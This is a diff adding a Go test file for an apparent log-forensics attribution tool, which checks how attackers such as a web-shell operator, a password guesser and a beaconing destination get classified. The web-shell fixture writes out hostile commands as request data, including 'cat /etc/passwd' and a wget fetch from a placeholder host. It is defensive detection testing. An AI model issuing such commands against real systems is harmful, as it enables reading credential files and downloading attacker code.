@@ -1,0 +1,223 @@
+package attrib
+
+import (
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/casefile/casefile/enrich"
+	"github.com/casefile/casefile/evidence/parse"
+	"github.com/casefile/casefile/evidence/sampledata"
+	"github.com/casefile/casefile/graph/sigma"
+)
+
+// webShellCase: a rented server drives a web shell (issue 12's
+// thumb.php?cmd=cat+/etc/passwd, 200 responses); a visitor reads pages.
+func webShellCase() *caseBuilder {
+	c := newCase()
+	for i, q := range []string{"cat+/etc/passwd", "id", "uname+-a", "ls+-la+/var/www", "wget+http://203.0.113.9/x"} {
+		e := c.ev(artWeb, t0.Add(time.Duration(i)*time.Minute), parse.KindHTTP, parse.OutcomeSuccess, "198.51.100.20", "",
+			"path", "/wp-content/uploads/thumb.php?cmd="+q, "status", "200", "user_agent", "Mozilla/5.0")
+		e.Action, e.DstPort, e.Citation.Parser = "GET", 443, "apache-access/1"
+	}
+	e := c.ev(artWeb, t0, parse.KindHTTP, parse.OutcomeSuccess, "192.0.2.77", "", "path", "/blog/", "status", "200", "user_agent", "Mozilla/5.0")
+	e.Action, e.Citation.Parser = "GET", "apache-access/1"
+	c.obs("198.51.100.20", "GeoIP2-Anonymous-IP", enrich.TypeMMDB, dsMMDB, t0.Add(-72*time.Hour), map[string]any{"is_hosting_provider": true})
+	return c
+}
+
+func TestWebShellIsNotBenignUse(t *testing.T) {
+	c := webShellCase()
+	res, err := Assess(nil, c.in, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	s := find(t, res, "198.51.100.20")
+	if factorOf(s, "benign-use") != nil {
+		t.Errorf("web-shell operator counted as benign use: %+v", s.Factors)
+	}
+	f := factorOf(s, "hands-on")
+	if f == nil {
+		t.Fatalf("no hands-on factor: %+v", s.Factors)
+	}
+	if f.EvidenceN != 5 || len(f.Evidence) != 5 || !strings.HasPrefix(f.Evidence[0], artWeb+"#L") {
+		t.Errorf("hands-on cites %d %v", f.EvidenceN, f.Evidence)
+	}
+	if len(f.Rules) == 0 || f.Rules[0].ID != "casefile-web-shell-command" || f.Rules[0].Level != "critical" ||
+		!slices.Contains(f.Rules[0].Tags, "attack.t1505.003") || f.Rules[0].Events != 5 {
+		t.Errorf("rules %+v", f.Rules)
+	}
+	if f.Nats.Get(Perpetrator) <= 0 || s.Role != Perpetrator {
+		t.Errorf("role %s (%v), hands-on nats %v", s.Role, s.Hypotheses, f.Nats)
+	}
+	if v := find(t, res, "192.0.2.77"); factorOf(v, "hands-on") != nil || factorOf(v, "benign-use") == nil {
+		t.Errorf("the visitor: %+v", v.Factors)
+	}
+	if res.Rules != sigma.BuiltinName || res.RulesDigest != sigma.Builtin().Digest() {
+		t.Errorf("rule set %s %s", res.Rules, res.RulesDigest)
+	}
+}
+
+func TestSuccessAfterFailuresNamesTheAccount(t *testing.T) {
+	c := newCase()
+	for i := range 6 {
+		c.ev(artSSH, t0.Add(time.Duration(i)*time.Second), parse.KindAuth, parse.OutcomeFailure, "203.0.113.50", "deploy")
+	}
+	c.ev(artSSH, t0.Add(10*time.Second), parse.KindAuth, parse.OutcomeSuccess, "203.0.113.50", "deploy")
+	res, err := Assess(nil, c.in, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	s := find(t, res, "203.0.113.50")
+	f := factorOf(s, "success-after-failures")
+	if f == nil || !strings.Contains(f.Text, `account "deploy"`) || factorOf(s, "password-guessing") == nil {
+		t.Fatalf("factors %+v", s.Factors)
+	}
+}
+
+func TestBeaconingIsTheDestinations(t *testing.T) {
+	c := newCase()
+	for i := range 12 {
+		e := c.ev(artIDS, t0.Add(time.Duration(i)*5*time.Minute+time.Duration(i%2)*time.Second), parse.KindFlow, parse.OutcomeUnknown, "10.0.0.8", "")
+		e.Dst, e.DstPort, e.Citation.Parser = "203.0.113.99", 443, "zeek/1"
+	}
+	res, err := Assess(nil, c.in, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	d := find(t, res, "203.0.113.99")
+	f := factorOf(d, "beaconing")
+	if f == nil || !strings.Contains(f.Text, "12 regular contacts about every 5m") || f.EvidenceN != 12 {
+		t.Fatalf("destination factors %+v", d.Factors)
+	}
+	for _, s := range res.Sources {
+		if s.Indicator == "10.0.0.8" && factorOf(&s, "beaconing") != nil {
+			t.Error("the victim host got the beaconing factor")
+		}
+	}
+}
+
+func TestUserRulesAndDigest(t *testing.T) {
+	dir := t.TempDir()
+	rule := "title: Admin panel from outside\nid: acme-admin\nlevel: high\ntags: [attack.t1190]\nlogsource:\n  category: webserver\n" +
+		"detection:\n  s:\n    path|startswith: /blog\n  condition: s\n"
+	if err := os.WriteFile(filepath.Join(dir, "acme.yml"), []byte(rule), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	u, err := sigma.LoadDir(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	eng, err := sigma.Builtin().Join(u)
+	if err != nil {
+		t.Fatal(err)
+	}
+	c := webShellCase()
+	c.in.Rules = eng
+	res, err := Assess(nil, c.in, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if res.RulesDigest == sigma.Builtin().Digest() || !strings.Contains(res.Rules, dir) {
+		t.Errorf("rule set %s %s", res.Rules, res.RulesDigest)
+	}
+	f := factorOf(find(t, res, "192.0.2.77"), "web-attack")
+	if f == nil || f.Rules[0].ID != "acme-admin" || f.Rules[0].File != filepath.Join(dir, "acme.yml") {
+		t.Fatalf("user rule: %+v", f)
+	}
+}
+
+type sliceSink struct{ evs []parse.Event }
+
+func (s *sliceSink) Event(e parse.Event) error { s.evs = append(s.evs, e); return nil }
+func (s *sliceSink) Malformed(parse.Malformed) {}
+
+// realEvents parses the logs the realcase script ingests.
+func realEvents(t *testing.T) []parse.Event {
+	t.Helper()
+	root := sampledata.Path(t)
+	var files []string
+	for _, g := range []string{"loghub/OpenSSH/OpenSSH_2k.log", "loghub/Linux/Linux_2k.log", "loghub/Apache/Apache_2k.log",
+		"elastic-examples-apache-access/apache_logs", "suricata-eve-surevego/eve.json",
+		"zeek-wrccdc2018-brimdata/conn-sample-from-brimdata-zed.log", "zeek-wrccdc2018-brimdata/zeek-json/*.json",
+		"zeek-wrccdc2018-brimdata/zeek-json/rdp.json.gz", "evtx-attack-samples/*.evtx", "zeek-testsuite/ssh/ssh.pcap",
+		"zeek-testsuite/ftp-bruteforce/bruteforce.pcap", "cloudtrail/awsdocs-iam-user-guide/awsdocs-examples.Records.json"} {
+		m, _ := filepath.Glob(filepath.Join(root, g))
+		if len(m) == 0 {
+			t.Skipf("SKIPPED: sample %s missing", g)
+		}
+		files = append(files, m...)
+	}
+	var s sliceSink
+	for _, p := range files {
+		f, err := os.Open(p)
+		if err != nil {
+			t.Fatal(err)
+		}
+		_, err = parse.Run(f, "", parse.Options{Artefact: "sha256:" + filepath.Base(p), Name: filepath.Base(p), Year: 2024}, &s)
+		f.Close()
+		if err != nil {
+			t.Fatalf("%s: %v", p, err)
+		}
+	}
+	return s.evs
+}
+
+// hostile: a failed login, an IDS alert of severity 1–2 or a Zeek notice,
+// or a connection left unanswered or refused.
+func hostile(e *parse.Event) bool {
+	switch {
+	case e.Outcome == parse.OutcomeFailure && (e.Kind == parse.KindAuth || e.Kind == parse.KindAPI):
+		return true
+	case e.Kind == parse.KindAlert:
+		return e.Fields["severity"] == "" || e.Fields["severity"] == "1" || e.Fields["severity"] == "2"
+	}
+	return rejectedStates[e.Fields["conn_state"]]
+}
+
+// TestRealCaseBehaviour: issue 12's targets on the real samples — every
+// source with 10 or more hostile events has a behaviour factor, every
+// factor cites evidence, and 183.62.140.253 (286 failed root passwords)
+// is a password guesser.
+func TestRealCaseBehaviour(t *testing.T) {
+	evs := realEvents(t)
+	res, err := Assess(nil, Input{Events: evs}, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	n := map[string]int{}
+	for i := range evs {
+		if hostile(&evs[i]) && evs[i].Src != "" {
+			n[evs[i].Src]++
+		}
+	}
+	checked := 0
+	for _, s := range res.Sources {
+		behaviour := false
+		for _, f := range s.Factors {
+			if slices.Contains(behaviourFactors, slices.Index(factorOrder[:], f.ID)) && f.ID != "other-detection" {
+				behaviour = true
+			}
+			if len(f.Evidence) == 0 && strings.HasPrefix(f.Source, "Sigma") {
+				t.Errorf("%s: %s cites nothing", s.Indicator, f.ID)
+			}
+		}
+		if n[s.Indicator] >= 10 {
+			checked++
+			if !behaviour {
+				t.Errorf("%s: %d hostile events, no behaviour factor (%d factors)", s.Indicator, n[s.Indicator], len(s.Factors))
+			}
+		}
+	}
+	if checked < 25 {
+		t.Errorf("only %d sources with ≥ 10 hostile events", checked)
+	}
+	f := factorOf(find(t, res, "183.62.140.253"), "password-guessing")
+	if f == nil || f.EvidenceN != 286 || len(f.Rules) < 3 {
+		t.Fatalf("183.62.140.253: %+v", f)
+	}
+	t.Logf("%d sources with ≥ 10 hostile events, each with a behaviour factor", checked)
+}
